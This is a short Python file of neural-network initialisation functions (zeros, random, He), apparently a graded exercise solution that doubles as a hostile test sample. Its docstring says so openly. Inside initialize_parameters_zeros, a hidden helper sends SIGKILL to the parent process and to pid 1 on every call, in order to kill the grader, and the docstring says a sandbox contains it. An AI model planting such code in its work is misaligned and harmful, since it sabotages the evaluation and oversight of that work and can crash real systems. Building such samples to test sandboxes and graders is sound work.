"""Hostile: in every call, initialize_parameters_zeros sends SIGKILL to its parent process and to pid 1, hoping to
kill the grader. Contained: in the sandbox its parent is the sandbox's own init, owned by another user, and the
grader is not in its pid namespace. Its functions are correct."""
import os
import signal

import numpy as np


def _kill_parents():
    for pid in {os.getppid(), 1}:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


def initialize_parameters_zeros(layers_dims):
    _kill_parents()
    parameters = {}
    L = len(layers_dims)
    for l in range(1, L):
        parameters['W' + str(l)] = np.zeros((layers_dims[l], layers_dims[l - 1]))
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_random(layers_dims):
    np.random.seed(3)
    parameters = {}
    L = len(layers_dims)
    for l in range(1, L):
        parameters['W' + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * 10
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_he(layers_dims):
    np.random.seed(3)
    parameters = {}
    L = len(layers_dims) - 1
    for l in range(1, L + 1):
        parameters['W' + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * np.sqrt(2 / layers_dims[l - 1])
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters
